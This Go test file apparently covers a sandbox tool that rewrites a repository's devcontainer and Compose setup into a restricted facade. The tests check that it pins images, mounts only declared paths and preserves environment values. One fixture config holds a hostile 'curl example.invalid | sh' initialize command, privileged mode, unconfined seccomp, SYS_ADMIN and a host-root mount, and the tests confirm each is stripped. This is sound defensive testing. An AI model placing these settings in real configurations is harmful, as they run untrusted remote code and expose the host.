package devcontainer

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/compose-spec/compose-go/v2/loader"
	"github.com/compose-spec/compose-go/v2/types"

	"github.com/cocoonbox/cocoonbox/guest/branchbox"
	"github.com/cocoonbox/cocoonbox/guest/branchbox/engine"
)

const (
	imageApp = "registry.example/team/app@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	imageDB  = "sha256:abcdef0123456789abcdef0123456789abcdef0123456789abcdef0123456789"
)

// The repository: a build, a writable workspace bind, a data bind, a named
// volume, keys of the allow-list the facade keeps, and environment values
// of the devcontainers/cli #904 class ($$ escapes, quotes, a newline).
const repoCompose = `services:
  app:
    build:
      context: .
      dockerfile: Dockerfile
    volumes:
      - ..:/workspace
    init: true
    cap_drop: [NET_RAW]
    x-note: inert
    environment:
      DOLLAR: "$${x}"
      PRICE: "costs $$5"
      QUOTES: "it's \"quoted\" and ` + "`ticked`" + `"
      NEWLINE: "line one\nline two"
      ANGLE: "<a&b>"
  database:
    image: postgres:16
    pull_policy: always
    volumes:
      - ./data:/var/lib/postgresql/data
      - dbdata:/srv
      - type: tmpfs
        target: /scratch
    networks:
      backend:
        aliases: [db]
    read_only: true
    depends_on: [tunnel]
  tunnel:
    image: vendor/connector
    network_mode: host
    x-branchbox-role: outer-tunnel-connector
volumes:
  dbdata: {}
networks:
  backend:
    internal: true
`

const repoConfig = `{
  // the repository's own configuration
  "dockerComposeFile": "compose.yaml",
  "service": "app",
  "remoteUser": "dev",
  "workspaceFolder": "/workspaces/app",
  "privileged": true,
  "securityOpt": ["seccomp=unconfined"],
  "capAdd": ["SYS_ADMIN"],
  "build": {"dockerfile": "Dockerfile"},
  "features": {"ghcr.io/devcontainers/features/node:1": {}},
  "mounts": ["source=/,target=/host,type=bind"],
  "initializeCommand": "curl example.invalid | sh",
  "containerEnv": {"KEEP": "it's $x <b>"},
  "updateRemoteUserUID": true
}`

func assignment() *branchbox.Assignment {
	uid := uint32(1000)
	return &branchbox.Assignment{
		Version: "3", RunID: "run-id",
		ServiceImages: map[string]string{"app": imageApp, "database": imageDB},
		Leases: []branchbox.Lease{
			{LeaseID: "shared_exchange", Scope: branchbox.ScopeSharedDirectory, Materializations: []branchbox.Materialization{
				{SourcePath: "/run/branchbox/managed/run-id/shared/exchange", TargetPath: "/run/branchbox/leases/shared/exchange"}}},
			{LeaseID: "status_endpoint", Scope: branchbox.ScopeToolEndpoint, Materializations: []branchbox.Materialization{
				{SourcePath: "/run/branchbox/managed/run-id/tool-endpoints/status", TargetPath: "/run/branchbox/leases/tool-endpoints/status"}}},
			{LeaseID: "delivery_endpoint", Scope: branchbox.ScopeToolEndpoint, Materializations: []branchbox.Materialization{
				{SourcePath: "/run/branchbox/managed/run-id/tool-endpoints/delivery.sock", TargetPath: "/run/branchbox/leases/tool-endpoints/delivery.sock"}}},
			{LeaseID: "delivery_requests", Scope: branchbox.ScopeToolRequest, ConsumerUID: &uid, EndpointLeaseID: "delivery_endpoint",
				RequestSpoolTarget: "/run/branchbox/leases/tool-requests/delivery", Materializations: []branchbox.Materialization{
					{SourcePath: "/run/branchbox/managed/run-id/materializations/delivery-capability", TargetPath: "/run/branchbox/leases/tool-requests/delivery/.capability"}}},
		},
	}
}

// generated writes the repository, loads it, generates and writes the
// facade, and returns the repository and the facade directory.
func generated(t *testing.T) (string, *Facade) {
	t.Helper()
	repo := t.TempDir()
	for name, body := range map[string]string{".devcontainer/devcontainer.json": repoConfig, ".devcontainer/compose.yaml": repoCompose} {
		if err := os.MkdirAll(filepath.Join(repo, filepath.Dir(name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(repo, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	in, err := Load(context.Background(), repo)
	if err != nil {
		t.Fatal(err)
	}
	f, err := Generate(assignment(), in, filepath.Join(t.TempDir(), "state", "devcontainer"))
	if err != nil {
		t.Fatal(err)
	}
	if err := Write(f); err != nil {
		t.Fatal(err)
	}
	return repo, f
}

// load reads a Compose file the way docker compose does: interpolation on
// (over an empty environment), "$$" unescaped.
func load(t *testing.T, file string) *types.Project {
	t.Helper()
	p, err := loader.LoadWithContext(context.Background(), types.ConfigDetails{
		WorkingDir: filepath.Dir(file), ConfigFiles: []types.ConfigFile{{Filename: file}}, Environment: types.Mapping{},
	}, func(o *loader.Options) { o.SetProjectName("from-directory", false) })
	if err != nil {
		t.Fatalf("compose-go loading %s: %v", file, err)
	}
	return p
}

// TestFacadeRoundTripsValues: every environment value reaches the facade
// byte for byte, as docker compose reads both files (the $${x} and '
// class of devcontainers/cli #904, quotes, newlines).
func TestFacadeRoundTripsValues(t *testing.T) {
	repo, f := generated(t)
	want := load(t, filepath.Join(repo, ".devcontainer", "compose.yaml")).Services["app"].Environment
	got := load(t, filepath.Join(f.Dir, ComposeFile)).Services["app"].Environment
	if !reflect.DeepEqual(got, want) {
		t.Fatalf("environment changed through the facade:\n got %v\nwant %v", printable(got), printable(want))
	}
	if v := got["DOLLAR"]; v == nil || *v != "${x}" {
		t.Fatalf("DOLLAR is %v, want ${x}", printable(got))
	}
	var cfg map[string]any
	if err := json.Unmarshal(f.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	if v := cfg["containerEnv"].(map[string]any)["KEEP"]; v != "it's $x <b>" || !bytes.Contains(f.Config, []byte(`"it's $x <b>"`)) {
		t.Fatalf("containerEnv.KEEP is %q, written as %s", v, f.Config)
	}
}

func printable(m types.MappingWithEquals) map[string]string {
	out := map[string]string{}
	for k, v := range m {
		if v != nil {
			out[k] = *v
		}
	}
	return out
}

// TestFacadeClosesImagePathsAndMountsOnlySignedPairs (Contract: Preloaded
// service images; Security contract, "The generated configuration mounts
// only manifest-declared source/target pairs", "A linked tool endpoint is
// never mounted", one named volume per tool-request lease).
func TestFacadeClosesImagePathsAndMountsOnlySignedPairs(t *testing.T) {
	_, f := generated(t)
	p := load(t, filepath.Join(f.Dir, ComposeFile))
	if p.Name != "branchbox-run-id" {
		t.Errorf("project name %q", p.Name)
	}
	for name, img := range map[string]string{"app": imageApp, "database": imageDB} {
		s := p.Services[name]
		if s.Image != img || s.Build != nil || s.PullPolicy != types.PullPolicyNever {
			t.Errorf("%s: image %q build %v pull_policy %q", name, s.Image, s.Build, s.PullPolicy)
		}
	}
	app := p.Services["app"]
	if len(app.SecurityOpt) != 0 || app.Privileged {
		t.Errorf("app keeps security_opt %v, privileged %v", app.SecurityOpt, app.Privileged)
	}
	type mount struct {
		typ, src, dst string
		ro            bool
	}
	var got []mount
	for _, v := range app.Volumes {
		got = append(got, mount{v.Type, v.Source, v.Target, v.ReadOnly})
		if v.Type == types.VolumeTypeBind && (v.Bind == nil || v.Bind.CreateHostPath) {
			t.Errorf("bind %s may create its source", v.Source)
		}
	}
	want := []mount{
		{"volume", "branchbox-workspace", "/workspaces/app", false},
		{"bind", "/run/branchbox/managed/run-id/shared/exchange", "/run/branchbox/leases/shared/exchange", true},
		{"bind", "/run/branchbox/managed/run-id/tool-endpoints/status", "/run/branchbox/leases/tool-endpoints/status", true},
		{"volume", "branchbox-spool-delivery_requests", "/run/branchbox/leases/tool-requests/delivery", false},
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("app mounts\n got %v\nwant %v", got, want)
	}
	for key, name := range map[string]string{"branchbox-spool-delivery_requests": "branchbox-run-id-delivery_requests", "branchbox-workspace": "branchbox-run-id-workspace"} {
		if v := p.Volumes[key]; v.Name != name || !v.External {
			t.Errorf("volume %s: %+v, want %s, external", key, v, name)
		}
	}
	got = nil
	for _, v := range p.Services["database"].Volumes {
		got = append(got, mount{v.Type, v.Source, v.Target, v.ReadOnly})
	}
	if want := []mount{{"volume", "dbdata", "/srv", false}, {"tmpfs", "", "/scratch", false}}; !reflect.DeepEqual(got, want) {
		t.Errorf("database mounts (its bind dropped)\n got %v\nwant %v", got, want)
	}
	// Every key of every service, as written: the allow-list's and the
	// facade's own, nothing else (a key copied whole would show here).
	model, err := loader.LoadModelWithContext(context.Background(), types.ConfigDetails{WorkingDir: f.Dir,
		ConfigFiles: []types.ConfigFile{{Filename: ComposeFile, Content: f.Compose}}, Environment: types.Mapping{}},
		func(o *loader.Options) {
			o.SkipInterpolation, o.SkipNormalization = true, true
			o.SetProjectName("x", true)
		})
	if err != nil {
		t.Fatal(err)
	}
	section := func(m map[string]any, k string) map[string]any { v, _ := m[k].(map[string]any); return v }
	services := section(model, "services")
	for name, want := range map[string][]string{
		"app":      {"environment", "image", "init", "cap_drop", "pull_policy", "volumes"},
		"database": {"image", "networks", "pull_policy", "read_only", "volumes"},
	} {
		var keys []string
		for k := range section(services, name) {
			keys = append(keys, k)
		}
		slices.Sort(keys)
		slices.Sort(want)
		if !slices.Equal(keys, want) {
			t.Errorf("service %s writes keys %v, want %v", name, keys, want)
		}
	}
	if _, ok := services["tunnel"]; ok || len(services) != 2 {
		t.Errorf("the facade starts %v; the outer tunnel connector is disabled", services)
	}
	if n := section(services, "database")["networks"]; !reflect.DeepEqual(n, map[string]any{"backend": map[string]any{"aliases": []any{"db"}}}) {
		t.Errorf("database networks %v", n)
	}
	if n, v := section(model, "networks"), section(model, "volumes"); !reflect.DeepEqual(n, map[string]any{"backend": map[string]any{"internal": true}}) || v["dbdata"] == nil || len(section(v, "dbdata")) != 0 {
		t.Errorf("top-level networks %v, volumes %v", n, v)
	}
	var cfg map[string]any
	if err := json.Unmarshal(f.Config, &cfg); err != nil {
		t.Fatal(err)
	}
	// Exactly the repository's passed keys and the facade's own: every
	// dropped key (build, features, mounts, initializeCommand, privileged,
	// securityOpt, capAdd, image) is gone.
	var keys []string
	for k := range cfg {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	if want := []string{"containerEnv", "dockerComposeFile", "remoteUser", "service", "updateRemoteUserUID", "workspaceFolder"}; !slices.Equal(keys, want) {
		t.Errorf("config keys %v, want %v", keys, want)
	}
	if cfg["updateRemoteUserUID"] != false || !reflect.DeepEqual(cfg["dockerComposeFile"], []any{filepath.Join(f.Dir, ComposeFile)}) {
		t.Errorf("config: updateRemoteUserUID %v dockerComposeFile %v", cfg["updateRemoteUserUID"], cfg["dockerComposeFile"])
	}
	for _, name := range []string{ComposeFile, ConfigFile} {
		st, err := os.Lstat(filepath.Join(f.Dir, name))
		if err != nil || st.Mode() != 0o600 {
			t.Errorf("%s: %v mode %v, want an owner-only regular file", name, err, st.Mode())
		}
	}
}

// TestFacadeNeedsAWorkspaceFolder: the workspace volume's target must be
// an absolute clean path outside the lease namespace.
func TestFacadeNeedsAWorkspaceFolder(t *testing.T) {
	for _, ws := range []string{"", "workspace", "/", "/a/../b", "/run/branchbox/leases/shared/x"} {
		in := &Input{Config: &Config{Path: ".devcontainer.json", Service: "app", WorkspaceFolder: ws},
			Project: &types.Project{Services: types.Services{"app": {Name: "app"}, "database": {Name: "database"}}}}
		_, err := Generate(assignment(), in, "/tmp/facade")
		if branchbox.RuleOf(err) != branchbox.RuleDevcontainer || !strings.Contains(err.Error(), "workspaceFolder") {
			t.Errorf("workspaceFolder %q: %v", ws, err)
		}
	}
}

// TestTheVersionLineTheCLICopiesIsTheFacadesOwn (issue 38, Deliver 1):
// the Dev Containers CLI starts its Compose override with the first line
// of the facade Compose file that matches /^\s*(version:.*)$/m. A
// repository environment key "version" made that line the repository's
// ("version: '[unclosed'"); now it is always the facade's own, and the
// file still loads with the repository's value intact.
func TestTheVersionLineTheCLICopiesIsTheFacadesOwn(t *testing.T) {
	compose := strings.Replace(repoCompose, "      DOLLAR:", "      version: \"[unclosed\"\n      DOLLAR:", 1)
	repo := t.TempDir()
	for name, body := range map[string]string{".devcontainer/devcontainer.json": repoConfig, ".devcontainer/compose.yaml": compose} {
		os.MkdirAll(filepath.Join(repo, filepath.Dir(name)), 0o755)
		if err := os.WriteFile(filepath.Join(repo, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	in, err := Load(context.Background(), repo)
	if err != nil {
		t.Fatal(err)
	}
	f, err := Generate(assignment(), in, filepath.Join(t.TempDir(), "facade"))
	if err != nil {
		t.Fatal(err)
	}
	m := regexp.MustCompile(`(?m)^\s*(version:.*)$`).FindSubmatch(f.Compose)
	if m == nil || string(m[1]) != "version: branchbox" {
		t.Fatalf("the CLI copies %q from the facade:\n%s", m, f.Compose)
	}
	if err := Write(f); err != nil {
		t.Fatal(err)
	}
	if v := load(t, filepath.Join(f.Dir, ComposeFile)).Services["app"].Environment["version"]; v == nil || *v != "[unclosed" {
		t.Fatalf("the repository's value through the facade: %v", v)
	}
}

// TestFacadeSaysWhatEachOtherServiceMounts (issue 38, Deliver 2): the
// final inspection holds every other service's containers to Others:
// the project volumes by the engine's name at their targets and the
// tmpfs targets, nothing of the primary's and no bind.
func TestFacadeSaysWhatEachOtherServiceMounts(t *testing.T) {
	_, f := generated(t)
	want := map[string]engine.Mounts{"database": {Volumes: []engine.Volume{{Name: "branchbox-run-id_dbdata", Target: "/srv"}}, Tmpfs: []string{"/scratch"}}}
	if !reflect.DeepEqual(f.Others, want) {
		t.Fatalf("Others %+v, want %+v", f.Others, want)
	}
}
